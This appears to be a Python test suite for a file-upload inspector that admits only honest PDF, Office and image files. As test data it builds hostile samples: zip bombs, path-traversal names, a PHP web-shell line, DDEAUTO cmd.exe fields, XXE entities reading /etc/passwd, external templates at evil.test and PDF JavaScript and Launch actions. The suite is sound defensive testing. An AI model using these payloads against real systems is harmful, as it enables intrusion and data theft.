"""The check at the door, against honest files and a hostile collection made by code."""

import io
import os
import stat
import struct
import tracemalloc
import unicodedata
import zipfile
import zlib
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from app.adapters.storage import MESSAGES, BadUpload, LocalStorage, receive, safe_name
from app.adapters.storage.inspect import MEDIA_TYPES, Inspected, inspect
from tests.adapters import samples


@pytest.fixture
def look(tmp_path):
    """Inspect these bytes under this name."""

    def look(content, filename):
        path = tmp_path / "upload"
        path.write_bytes(content)
        return inspect(path, filename)

    return look


@pytest.fixture
def refusal(look):
    """Code with which these bytes are refused under this name."""

    def refusal(content, filename):
        with pytest.raises(BadUpload) as refused:
            look(content, filename)
        assert refused.value.message == MESSAGES[refused.value.code]
        return refused.value.code

    return refusal


# --- Every extension with every content ---------------------------------------------------------------

EXTENSIONS = [
    "pdf", "PDF", "docx", "DOCX", "xlsx", "jpg", "jpeg", "JPG", "png", "doc", "xls", "docm", "xlsm", "dotx", "pptx",
    "html", "htm", "xhtml", "svg", "xml", "js", "php", "exe", "bat", "sh", "zip", "rar", "gif", "webp", "tiff", "txt",
    "csv", "pdf.exe", "pdf ", "",
]  # fmt: skip


def contents():
    """One file of each kind by its name."""
    macro_kind = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    macro_types = b'<Types><Override PartName="/word/document.xml" ContentType="' + macro_kind + b'"/></Types>'
    return {
        "pdf": samples.pdf(),
        "docx": samples.word(),
        "xlsx": samples.excel(),
        "jpg": samples.picture("JPEG"),
        "png": samples.picture("PNG"),
        "gif": samples.picture("GIF"),
        "webp": samples.picture("WEBP"),
        "bmp": samples.picture("BMP"),
        "tiff": samples.picture("TIFF"),
        "docm": samples.word_with({"[Content_Types].xml": macro_types}),
        "zip": samples.archive({"a.txt": b"a"}),
        "compound": samples.OLE_HEAD + bytes(1000),
        "protected": samples.OLE_HEAD + bytes(500) + "EncryptedPackage".encode("utf-16-le"),
        "html": b"<!DOCTYPE html><script>alert(1)</script>",
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "xml": b'<?xml version="1.0"?><a/>',
        "javascript": b"alert(1)",
        "php": b"<?php system($_GET[0]); ?>",
        "exe": b"MZ" + bytes(200),
        "elf": b"\x7fELF" + bytes(200),
        "rtf": b"{\\rtf1 }",
        "text": "Sáng kiến".encode(),
        "late pdf": b"\n" + samples.pdf(),
        "empty": b"",
    }


CONTENTS = contents()
HONEST = {"pdf": "pdf", "docx": "docx", "xlsx": "xlsx", "jpg": "jpg", "jpeg": "jpg", "png": "png"}


def expected(extension, kind):
    """Code of the refusal, or None for a pair that fits."""
    extension = extension.lower().strip()
    if extension not in HONEST:
        return "type"
    if HONEST[extension] == kind:
        return None
    office = extension in ("docx", "xlsx")
    special = {"empty": "empty", **({"docm": "macros", "protected": "encrypted"} if office else {})}
    return special.get(kind, "mismatch")


@pytest.mark.parametrize("kind", CONTENTS)
def test_only_a_content_that_fits_its_name_is_taken(kind, look, refusal):
    assert len(EXTENSIONS) >= 30
    assert len(CONTENTS) >= 20
    for extension in EXTENSIONS:
        name = f"Bản mô tả.{extension}"
        code = expected(extension, kind)
        if code:
            assert (extension, refusal(CONTENTS[kind], name)) == (extension, code)
        else:
            right = HONEST[extension.lower().strip()]
            assert look(CONTENTS[kind], name) == Inspected(MEDIA_TYPES[right], right)


def test_texts_for_people():
    assert MESSAGES["type"] == "Tệp phải là PDF, DOCX, XLSX, JPG hoặc PNG"
    assert MESSAGES["empty"] == "Tệp không có nội dung"
    assert MESSAGES["encrypted"] == "Tệp có mật khẩu. Bỏ mật khẩu rồi tải lại"
    assert all(unicodedata.is_normalized("NFC", text) for text in MESSAGES.values())


def test_receive_keeps_what_fits(tmp_path):
    storage = LocalStorage(tmp_path)
    received = receive(storage, io.BytesIO(CONTENTS["png"]), "C:\\ảnh\\Minh chứng.PNG", limit=2**20)
    assert (received.name, received.media_type, received.extension) == ("Minh chứng.PNG", "image/png", "png")
    assert received.size == len(CONTENTS["png"])
    assert storage.path(received.key).read_bytes() == CONTENTS["png"]


# --- Zip: bombs, forged figures, names that lead out --------------------------------------------------


def many_members(count):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        for number in range(count):
            file.writestr(f"m{number}", b"")
    return buffer.getvalue()


def half_random(size):
    """Bytes that pack about forty times smaller, so that only their sum betrays them."""
    return b"".join(os.urandom(20) + bytes(1000) for _ in range(size // 1020))


def longest_name(content):
    end = samples.directory_of(content)
    return content[:end].replace(b"word/document.xml", b"word/d0cument.xml", 1) + content[end:]


def first_shorter(content):
    """Local and directory size both tell less than the data hold."""
    forged = bytearray(samples.with_directory_entry(content, size=10, crc=zlib.crc32(b"0" * 10)))
    struct.pack_into("<LLL", forged, 14, zlib.crc32(b"0" * 10), *struct.unpack_from("<L", content, 18), 10)
    return bytes(forged)


# Its only member is of no kind that is read further: what is refused here is refused by the figures alone.
PLAIN = samples.archive({"word/media/image1.bmp": b"0" * 5000})

BOMBS = {
    "ratio": samples.archive({"word/media/image1.bmp": bytes(30 * 2**20)}),
    "sum": samples.archive({f"part{n}.bin": half_random(11 * 2**20) for n in range(10)}),
    "2001 members": many_members(2001),
    "100,000 members": many_members(100_000),
}

BROKEN = {
    "overlapping members": samples.overlapping(400),
    "a member inside another": samples.quoted(),
    "less than it holds": first_shorter(PLAIN),
    "size forged": samples.with_directory_entry(PLAIN, size=4999),
    "packed size too small": samples.with_directory_entry(PLAIN, packed=5),
    "packed size too large": samples.with_directory_entry(PLAIN, packed=2**31),
    "checksum forged": samples.with_directory_entry(PLAIN, crc=1),
    "offset forged": samples.with_directory_entry(PLAIN, offset=7),
    "offset outside": samples.with_directory_entry(PLAIN, offset=2**30),
    "method forged": samples.with_directory_entry(PLAIN, method=0),
    "method unknown": samples.with_directory_entry(PLAIN, method=97),
    "two names": longest_name(samples.word()),
    "bytes after": samples.word() + b"<script>",
    "bytes before": b"PK\x03\x04<html>" + samples.word(),
    "cut off": samples.word()[:-10],
    "cut in half": samples.word()[:3000],
    "only a head": b"PK\x03\x04",
    "comment": samples.word()[:-2] + b"\x04\x00evil",
    "twice the same": samples.archive({"a.xml": b"<a/>", "A.xml": b"<a/>"}),
    "damaged data": PLAIN.replace(PLAIN[55:60], b"\xff\xff\xff\xff\xff"),
}  # fmt: skip


@pytest.mark.parametrize("name", BOMBS)
def test_archives_that_unpack_to_too_much(name, refusal):
    tracemalloc.start()
    assert refusal(BOMBS[name], "bom.docx") == "unpacks_too_large"
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 64 * 2**20


def test_the_archive_that_the_broken_ones_are_made_of_is_whole(refusal):
    assert refusal(PLAIN, "a.docx") == "mismatch"


@pytest.mark.parametrize("name", BROKEN)
def test_archives_that_contradict_themselves(name, refusal):
    assert refusal(BROKEN[name], "lỗi.docx") == "broken"


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd", "/etc/passwd", "a/../../b", "word\\..\\..\\b", "C:/b", "a/./b", "a//b", "\x01", "..", "a\x7f"],
)
def test_members_that_lead_out_of_the_folder(name, refusal):
    assert refusal(samples.word_with({name: b"x"}), "lỗi.docx") == "broken"


def test_a_name_cut_by_a_null_byte(refusal):
    content = samples.word_with({"word/good.xmlQ../evil": b"<a/>"}).replace(b"xmlQ", b"xml\x00")
    assert refusal(content, "lỗi.docx") == "broken"


@pytest.mark.parametrize("kind", [stat.S_IFLNK, stat.S_IFIFO, stat.S_IFBLK])
def test_members_that_are_no_files(kind, refusal):
    content = samples.word_with({"link": b"/etc/passwd"}, link={"external_attr": (kind | 0o777) << 16})
    assert refusal(content, "lỗi.docx") == "broken"


def test_members_with_a_password(refusal):
    assert refusal(samples.with_directory_entry(samples.word(), flags=1), "mật.docx") == "encrypted"
    local = bytearray(samples.word())
    local[6] |= 1
    assert refusal(bytes(local), "mật.docx") == "encrypted"


@settings(deadline=None)
@given(st.data())
def test_any_change_of_one_byte_is_taken_or_refused_never_worse(tmp_path_factory, data):
    content = bytearray(CONTENTS["docx"])
    place = data.draw(st.integers(0, len(content) - 1))
    content[place] = data.draw(st.integers(0, 255))
    path = tmp_path_factory.mktemp("byte") / "upload"
    path.write_bytes(bytes(content))
    with suppress(BadUpload):
        assert inspect(path, "a.docx").extension == "docx"


# --- Word and Excel -----------------------------------------------------------------------------------

FIELD = "<w:r><w:instrText>{}</w:instrText></w:r>"
BILLION = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
MAIN_PART_IN_DISGUISE = f'<Types><Override PartName="/a.bin" ContentType="{samples.DOCX_TYPE}"/></Types>'.encode()

OFFICE = {
    "macros": [
        {"word/vbaProject.bin": b"x"},
        {"word/VBAPROJECT.BIN": b"x"},
        {"word/vbaData.xml": b"<a/>"},
        {"xl/macrosheets/sheet1.xml": b"<a/>"},
        {"word/_rels/document.xml.rels": samples.relationships("vbaProject", "x.bin", "")},
        {"xl/_rels/workbook.xml.rels": samples.relationships("xlMacrosheet", "sheets/s.xml", "")},
    ],
    "embedded": [
        {"word/embeddings/oleObject1.bin": b"x"},
        {"word/embeddings/Sheet.xlsx": b"x"},
        {"word/activeX/activeX1.xml": b"<a/>"},
        {"word/media/image1.png": samples.OLE_HEAD + b"rest"},
        {"word/media/image1.png": samples.archive({"a": b"a"})},
        {"word/media/image1.png": b"MZ\x90\x00\x03"},
        {"customXml/item1.xml": b"%PDF-1.7"},
        {"word/_rels/document.xml.rels": samples.relationships("oleObject", "media/x", "")},
        {"word/_rels/document.xml.rels": samples.relationships("aFChunk", "x.html", "")},
    ],
    "external": [
        {"word/_rels/settings.xml.rels": samples.relationships("attachedTemplate", "http://evil.test/a.dotm")},
        {"word/_rels/document.xml.rels": samples.relationships("image", "file:///etc/passwd")},
        {"word/_rels/document.xml.rels": samples.relationships("image", "//host/share", ' TargetMode=" EXTERNAL "')},
        {"word/_rels/x.xml.RELS": samples.relationships("frame", "http://evil.test")},
        {"xl/externalLinks/_rels/externalLink1.xml.rels": samples.relationships("externalLinkPath", "b.xlsx")},
        {"word/document.xml": samples.word_text(FIELD.format('DDEAUTO c:\\\\cmd.exe "/k calc"'))},
        {"word/document.xml": samples.word_text(FIELD.format("DD") + FIELD.format("E cmd"))},
        {"doc/other.xml": samples.word_text(FIELD.format("DDE cmd"))},
        {"xl/_rels/workbook.xml.rels": samples.relationships("externalLink", "externalLinks/e1.xml", "")},
        {"xl/_rels/workbook.xml.rels": samples.relationships("connections", "connections.xml", "")},
        {"word/header1.xml": samples.word_text('<w:fldSimple w:instr="dde excel a"/>')},
        {"word/document.xml": samples.word_text(FIELD.format("&#68;DE cmd"))},
    ],
    "broken": [
        {"word/document.xml": BILLION},
        {"word/document.xml": BILLION.decode().encode("utf-16")},
        {"customXml/item1.xml": b'<!DOCTYPE a SYSTEM "http://evil.test/x.dtd"><a/>'},
        {"docProps/core.xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'},
        {"[Content_Types].xml": MAIN_PART_IN_DISGUISE},
        {"word/document.xml": b"<w:document>"},
        {"word/document.xml": b""},
        {"word/_rels/document.xml.rels": b"<Relationships>"},
        {"word/document.xml": b'<?xml version="1.0" encoding="cp037"?><a/>'},
        {"word/document.xml": b'<?xml version="1.0" encoding="nonsense"?><a/>'},
    ],
    "unpacks_too_large": [
        {"word/_rels/document.xml.rels": b"<a>" + half_random(2**20 + 4096).hex().encode() + b"</a>"},
    ],
}  # fmt: skip
OFFICE_CASES = [(code, more) for code, cases in OFFICE.items() for more in cases]


@pytest.mark.parametrize(("code", "more"), OFFICE_CASES, ids=[f"{c}-{next(iter(m))}" for c, m in OFFICE_CASES])
def test_office_files_with_something_hidden(code, more, refusal):
    assert refusal(samples.word_with(more), "a.docx") == code


def test_links_to_click_and_pictures_inside_are_welcome(look):
    content = samples.word_with(
        {
            "word/_rels/document.xml.rels": samples.relationships("hyperlink", "https://example.vn/"),
            "word/document.xml": samples.word_text(FIELD.format("PAGE") + "<w:r><w:t>DDE là gì</w:t></w:r>"),
            "word/media/image1.png": CONTENTS["png"],
            "word/drawing.vml": b"<xml><br></xml>",
            "xl/printerSettings/printerSettings1.bin": bytes(40),
        }
    )
    assert look(content, "a.docx").extension == "docx"


def test_a_part_with_millions_of_elements_is_refused(refusal):
    noise = "".join(f"<w:{chr(97 + n % 26)}/>" for n in range(2_000_100))
    assert refusal(samples.word_with({"word/document.xml": samples.word_text(noise)}), "a.docx") == "unpacks_too_large"


# --- PDF ----------------------------------------------------------------------------------------------

SCRIPT = "<< /S /JavaScript /JS (app.alert(1)) >>"

ACTIVE = {
    "script at opening": samples.pdf(SCRIPT, catalog="/OpenAction 4 0 R"),
    "script by name": samples.pdf(catalog=f"/Names << /JavaScript << /Names [(a) {SCRIPT}] >> >>"),
    "script in disguise": samples.pdf("<< /S /J#61va#53cript /J#53 (x) >>", catalog="/OpenAction 4 0 R"),
    "script of the page": samples.pdf(page=samples.PAGE[:-2] + f"/AA << /O {SCRIPT} >> >>"),
    "script in packed objects": samples.pdf_with_packed_objects(SCRIPT),
    "script in packed objects, in disguise": samples.pdf_with_packed_objects("<< /S /#4aavaScript /JS (x) >>"),
    "program": samples.pdf("<< /S /Launch /F (cmd.exe) >>", catalog="/OpenAction 4 0 R"),
    "program in packed objects": samples.pdf_with_packed_objects("<< /S /Launch /F (cmd.exe) >>"),
    "file inside": samples.pdf(
        "<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream",
        "<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>",
        catalog="/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>",
    ),
    "film": samples.pdf(page=samples.PAGE[:-2] + "/Annots [<< /Subtype /RichMedia >>] >>"),
    "form with scripts": samples.pdf(catalog="/AcroForm << /XFA (x) /Fields [] >>"),
    "script nobody refers to": samples.pdf(SCRIPT),
    "script in no table, in disguise": samples.pdf(lost="<< /S /J#61vaScript >>"),
}


@pytest.mark.parametrize("name", ACTIVE)
def test_pdf_that_acts_by_itself(name, refusal):
    assert refusal(ACTIVE[name], "a.pdf") == "active"


def test_packed_objects_alone_are_welcome(look):
    assert look(samples.pdf_with_packed_objects("<< /S /GoTo /D [3 0 R /Fit] >>"), "a.pdf").extension == "pdf"


def test_pdf_that_only_speaks_of_scripts_is_welcome(look):
    text = "BT (/JS /XFA and JavaScript) Tj ET"
    page = samples.PAGE[:-2] + "/Contents 4 0 R >>"
    stream = f"<< /Length {len(text)} >>\nstream\n{text}\nendstream"
    assert look(samples.pdf(stream, page=page), "a.pdf").extension == "pdf"


@pytest.mark.parametrize("password", [b"", b"secret"], ids=["opens without asking", "asks"])
def test_pdf_with_a_password(password, refusal):
    assert refusal(samples.protected_pdf(password), "a.pdf") == "encrypted"


@pytest.mark.parametrize(
    "content",
    [b"%PDF-", b"%PDF-1.7\n" + b"\xff" * 500, samples.pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0")],
    ids=["head only", "noise", "no page"],
)
def test_pdf_that_does_not_open(content, refusal):
    assert refusal(content, "a.pdf") == "broken"


# --- Pictures -----------------------------------------------------------------------------------------


def png_of(width, height):
    """A PNG whose header promises this size and whose data hold next to nothing."""

    def chunk(name, data):
        return struct.pack(">L", len(data)) + name + data + struct.pack(">L", zlib.crc32(name + data))

    header = struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


@pytest.mark.parametrize(("width", "height"), [(50_000, 50_000), (10_001, 5000), (2**31 - 1, 1), (65_000, 2000)])
def test_a_flood_of_pixels(width, height, refusal):
    assert refusal(png_of(width, height), "a.png") == "image_too_large"


def test_fifty_million_pixels_are_welcome(look):
    assert look(png_of(10_000, 5000), "a.png").extension == "png"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.png", CONTENTS["png"][:20]),
        ("a.png", CONTENTS["png"][:40] + b"\xff" * 8 + CONTENTS["png"][48:]),
        ("a.png", CONTENTS["png"][:8] + b"\xff" * 100),
        ("a.jpg", CONTENTS["jpg"][:30]),
        ("a.jpg", b"\xff\xd8\xff" + bytes(100)),
        ("a.png", png_of(0, 10)),
    ],
)
def test_pictures_with_a_broken_head(name, content, refusal):
    assert refusal(content, name) == "broken"


def test_a_flood_in_a_jpeg(refusal):
    content = bytearray(CONTENTS["jpg"])
    frame = content.index(b"\xff\xc0")
    struct.pack_into(">HH", content, frame + 5, 50_000, 50_000)
    assert refusal(bytes(content), "a.jpg") == "image_too_large"
    assert Image.MAX_IMAGE_PIXELS == 50_000_000


# --- Names --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("Bản mô tả sáng kiến.docx", "Bản mô tả sáng kiến.docx"),
        (unicodedata.normalize("NFD", "Đề án số hoá.pdf"), "Đề án số hoá.pdf"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\Mai\\đơn.pdf", "đơn.pdf"),
        ("/tmp/a.pdf", "a.pdf"),
        ("a\x00b\r\nSet-Cookie: x.pdf", "ab Set-Cookie- x.pdf"),
        ("hoá\u202efdp.exe", "hoáfdp.exe"),
        ("CON", "tep-CON"),
        ("nul.pdf", "tep-nul.pdf"),
        ("COM1.tar.gz", "tep-COM1.tar.gz"),
        ("-rf.pdf", "rf.pdf"),
        (".htaccess", "htaccess"),
        ("...", "tep"),
        ("", "tep"),
        (".pdf", "pdf"),
        ("a.pdf. .", "a.pdf"),
        ('a<b>:"|?*.pdf', "a-b------.pdf"),
        ("=1+1.xlsx", "=1+1.xlsx"),
    ],
)
def test_safe_name(sent, kept):
    assert safe_name(sent) == kept


def test_long_names_keep_their_extension():
    assert safe_name("a" * 300 + ".docx") == "a" * 145 + ".docx"
    long = safe_name("ộ" * 300 + ".docx")
    assert long.endswith("ộ.docx")
    assert len(long.encode()) <= 255


@given(st.text())
def test_a_safe_name_is_safe(sent):
    name = safe_name(sent)
    assert 0 < len(name) <= 160
    assert len(name.encode()) <= 255
    assert not set(name) & set('/\\<>:"|?*\x00\r\n')
    assert name[0] not in " .-"
    assert name[-1] not in " ."
    assert safe_name(name) == name
    assert unicodedata.is_normalized("NFC", name)
